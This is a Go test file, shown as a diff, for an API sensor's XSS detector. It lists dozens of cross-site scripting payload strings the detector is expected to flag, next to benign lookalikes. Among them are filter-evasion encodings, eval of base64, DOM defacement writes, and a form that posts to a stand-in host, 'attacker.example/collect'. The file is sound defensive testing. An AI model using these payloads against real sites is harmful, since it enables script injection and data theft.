@@ -1,0 +1,104 @@
+package injection
+
+import (
+	"net/url"
+	"testing"
+
+	"github.com/apisensor/sensor/decoders"
+)
+
+// TestXSSCases covers the script, markup and encoding forms xssExtra finds
+// beyond libinjection (dialog probes, timers, DOM writes, unknown event
+// handlers, data: and CSS script URLs, form markup, 7-bit and overlong
+// spellings of < and >), through the whole detector in a query parameter
+// and a JSON field, and text close to them that is no attack.
+func TestXSSCases(t *testing.T) {
+	tests := []struct {
+		v    string
+		want bool
+	}{
+		// Dialog probes with no argument or a string, after a break out.
+		{"';confirm()//", true},
+		{"prompt('xss')", true},
+		{"\"+alert()+\"", true},
+		// Timers and eval of decoded base64.
+		{"setInterval(payload, 50)", true},
+		{"setTimeout`x`;setTimeout('location=name', 9)", true},
+		{"eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))", true},
+		// Writes through a selected element.
+		{`document.getElementById("msg").innerHTML="<b>owned</b>"`, true},
+		{"document.querySelectorAll('h1')[0].textContent='defaced'", true},
+		// Event handlers the table does not list, where markup goes.
+		{"\" onbeforetoggle=", true},
+		{"  onanimationiteration= ", true},
+		{"<x/oncontentvisibilityautostatechange=", true},
+		// Script URLs in CSS and markup in data: URLs.
+		{`div{background:url("javascript`, true},
+		{"data:image/svg+xml,<svg>", true},
+		{"data: ;charset=utf-8, <p>", true},
+		// Form markup and IE's component import.
+		{`<input name=q pattern=".*(a+)+$">`, true},
+		{`<form action="//attacker.example/collect">`, true},
+		{`<?import namespace="t" implementation="#default#time2">`, true},
+		// < and > spelled with the high bit set, in Latin-1, or overlong.
+		{`\xbcscript\xbealert(1)\xbc/script\xbe`, true},
+		{"\u00bcscript\u00bealert(1)\u00bc/script\u00be", true},
+		{"%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE", true},
+
+		{"the confirm() dialog blocks the page", false},
+		{"Call alert() only in tests", false},
+		{"setTimeout(fn, 0) defers the callback", false},
+		{"use setInterval to poll every 5s", false},
+		{"window.location is read-only in a sandboxed iframe", false},
+		{"document.querySelector('p').textContent is safe to set", false},
+		{`pass "onlyActive=true" to filter`, false},
+		{"set onlyActive=true and onSale=false", false},
+		{"online=yes, onboarding=done", false},
+		{"¼ cup sugar, ¾ cup flour", false},
+		{"¼tsp salt ¾tsp pepper", false},
+		{`<input type="text" name="q">`, false},
+		{`<form action="/search" method="get">`, false},
+		{`Heuristics to prevent "javascript:..." injection`, false},
+		{`clicking on a "javascript:" link`, false},
+		{"data: 3 rows, <none> missing", false},
+		{"url(images/bg.png)", false},
+		{"import implementation details later", false},
+		{"atob() and btoa() convert base64", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.v, func(t *testing.T) {
+			x := request("/api/v1/search?q="+url.QueryEscape(tt.v),
+				decoders.Param{Loc: decoders.LocJSON, Name: "body", Value: tt.v})
+			out := inspect(t, x)
+			got := false
+			for _, a := range out {
+				if a.RuleId == "xss" {
+					got = true
+				}
+			}
+			if got != tt.want {
+				t.Errorf("xss on %q = %v, want %v: %v", tt.v, got, tt.want, out)
+			}
+		})
+	}
+}
+
+// TestSevenBit covers the folding of high-bit, Latin-1 and overlong forms.
+func TestSevenBit(t *testing.T) {
+	tests := []struct {
+		in, want string
+		ok       bool
+	}{
+		{"\xbcb\xbe", "<b>", true},
+		{"\u00bcb\u00be", "<b>", true},
+		{"\xc0\xbcb\xc0\xbe", "<b>", true},
+		{"\u043c\xbc", "\u043c<", true},
+		{"plain <b>", "", false},
+	}
+	for _, tt := range tests {
+		got, ok := sevenBit(tt.in)
+		if got != tt.want || ok != tt.ok {
+			t.Errorf("sevenBit(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
+		}
+	}
+}
